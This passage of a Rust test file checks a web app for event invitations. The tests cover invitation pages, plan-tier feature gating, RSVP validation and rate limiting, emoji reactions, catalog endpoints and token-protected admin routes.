fn unknown_invitation_shows_not_found_page() {
    let client = client_with(Arc::new(FakeBackend::new()));
    let response = client.get("/i/missing").dispatch();
    assert_eq!(response.status(), Status::NotFound);
    assert!(response.into_string().unwrap().contains("Invitation not found"));
}

#[test]
fn invitation_fails_closed_without_features() {
    let backend = FakeBackend::new().with_profile(sample_profile(PlanTier::Platinum));
    backend.features.lock().unwrap().clear();
    let client = client_with(Arc::new(backend));

    let response = client.get("/i/p1").dispatch();
    assert_eq!(response.status(), Status::Ok);
    let body = response.into_string().unwrap();
    assert!(body.contains("class=\"watermark\""));
    assert!(!body.contains("data-kind=\"rsvp\""));
    assert!(!body.contains("data-kind=\"wishes\""));
}

#[test]
fn event_page_rejects_unknown_type() {
    let client = client_with(Arc::new(FakeBackend::new().with_profile(sample_profile(PlanTier::Free))));
    let response = client.get("/i/p1/events/sangeet").dispatch();
    assert_eq!(response.status(), Status::BadRequest);

    let response = client.get("/i/p1/events/haldi").dispatch();
    assert_eq!(response.status(), Status::Ok);
    let body = response.into_string().unwrap();
    assert!(body.contains("event-haldi-1"));
    assert!(!body.contains("event-wedding-1"));
}

#[test]
fn page_view_reaches_backend() {
    let backend = Arc::new(FakeBackend::new().with_profile(sample_profile(PlanTier::Silver)));
    let client = client_with(backend.clone());
    client.get("/i/p1").dispatch();

    let deadline = Instant::now() + Duration::from_secs(2);
    while backend.views.lock().unwrap().is_empty() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    let views = backend.views.lock().unwrap();
    assert_eq!(views.len(), 1);
    assert_eq!(views[0].profile_id, "p1");
    assert!(views[0].device.is_none());
}

#[test]
fn rsvp_validation_and_rate_limit() {
    let backend = Arc::new(FakeBackend::new().with_profile(sample_profile(PlanTier::Free)));
    let client = client_with(backend.clone());

    let bad = json!({"guest_name": "Kiran", "phone": "98765 43210", "attending": true});
    let response = client
        .post("/i/p1/rsvp")
        .header(ContentType::JSON)
        .body(bad.to_string())
        .dispatch();
    assert_eq!(response.status(), Status::BadRequest);
    let body: Value = response.into_json().unwrap();
    assert_eq!(body["errors"][0]["field"], "phone");
    assert!(backend.rsvps.lock().unwrap().is_empty());

    let good = json!({"guest_name": "Kiran", "phone": "+919876543210", "attending": true, "guest_count": 2});
    for _ in 0..5 {
        let response = client
            .post("/i/p1/rsvp")
            .header(ContentType::JSON)
            .body(good.to_string())
            .dispatch();
        assert_eq!(response.status(), Status::Ok);
    }
    let response = client
        .post("/i/p1/rsvp")
        .header(ContentType::JSON)
        .body(good.to_string())
        .dispatch();
    assert_eq!(response.status(), Status::TooManyRequests);
    assert_eq!(backend.rsvps.lock().unwrap().len(), 5);
}

#[test]
fn reactions_are_queued() {
    let client = client_with(Arc::new(FakeBackend::new()));

    let response = client
        .post("/i/p1/events/wedding-1/reactions")
        .header(ContentType::JSON)
        .body(json!({"emoji": "🎉"}).to_string())
        .dispatch();
    assert_eq!(response.status(), Status::Accepted);

    let response = client
        .post("/i/p1/events/wedding-1/reactions")
        .header(ContentType::JSON)
        .body(json!({"emoji": "💩"}).to_string())
        .dispatch();
    assert_eq!(response.status(), Status::BadRequest);
}

// ═══════════════════════════════════════════════════════════
// Catalog API
// ═══════════════════════════════════════════════════════════

#[test]
fn api_designs_for_event_type() {
    let client = client_with(Arc::new(FakeBackend::new()));

    let body: Value = client.get("/api/designs?event_type=marriage").dispatch().into_json().unwrap();
    assert_eq!(body["lord_rule"]["mandatory"], true);
    assert_eq!(body["lord_policy"], "mandatory");
    assert!(body["designs"].as_array().unwrap().len() >= 1);

    let response = client.get("/api/designs?event_type=sangeet").dispatch();
    assert_eq!(response.status(), Status::BadRequest);
}

#[test]
fn api_themes_report_fallback() {
    let client = client_with(Arc::new(FakeBackend::new()));
    let body: Value = client.get("/api/themes?plan=free").dispatch().into_json().unwrap();
    assert_eq!(body["source"], "local_fallback");
    assert_eq!(body["plan"], "FREE");
}

#[test]
fn api_plan_features() {
    let client = client_with(Arc::new(FakeBackend::new()));
    let body: Value = client.get("/api/plans/gold/features").dispatch().into_json().unwrap();
    assert_eq!(body["features"]["hero_video"], true);
    assert_eq!(body["features"]["analytics_advanced"], false);

    let response = client.get("/api/plans/diamond/features").dispatch();
    assert_eq!(response.status(), Status::BadRequest);
}

// ═══════════════════════════════════════════════════════════
// Admin API
// ═══════════════════════════════════════════════════════════

#[test]
fn admin_requires_token() {
    let backend = Arc::new(FakeBackend::new());
    let client = client_with(backend.clone());

    let response = client.delete("/admin/api/profiles/p1").dispatch();
    assert_eq!(response.status(), Status::Unauthorized);
    assert!(backend.calls().is_empty());

    let response = client
        .delete("/admin/api/profiles/p1?hard=true")
        .header(Header::new("Authorization", "Bearer tok-123"))
        .dispatch();
    assert_eq!(response.status(), Status::Ok);
    assert_eq!(backend.calls(), vec!["delete_profile:p1:true:tok-123"]);
}

#[test]
fn admin_apply_rejects_removing_last_event() {
    let backend = Arc::new(FakeBackend::new());
    let client = client_with(backend.clone());
    let mut profile = sample_profile(PlanTier::Free);
    profile.events.truncate(1);

    let request = json!({
        "profile": profile,
        "action": {"action": "remove_event", "event_id": "haldi-1"},
    });
    let response = client
        .post("/admin/api/editor/apply")
        .header(ContentType::JSON)
        .header(Header::new("Authorization", "Bearer tok-123"))
        .body(request.to_string())
        .dispatch();
    assert_eq!(response.status(), Status::UnprocessableEntity);
    let body: Value = response.into_json().unwrap();
    assert_eq!(body["kind"], "editor");
    assert!(backend.calls().is_empty());
}

#[test]
fn admin_save_creates_profile() {
    let backend = Arc::new(FakeBackend::new());
    let client = client_with(backend.clone());
    let mut profile = sample_profile(PlanTier::Free);
    profile.id = None;

    let response = client
        .post("/admin/api/profiles/save")
        .header(ContentType::JSON)
        .header(Header::new("Authorization", "Bearer tok-123"))
        .body(serde_json::to_string(&profile).unwrap())
        .dispatch();
    assert_eq!(response.status(), Status::Ok);
    let body: Value = response.into_json().unwrap();
    assert_eq!(body["profile"]["id"], "p-new");
    assert_eq!(backend.calls(), vec!["create_profile"]);
}
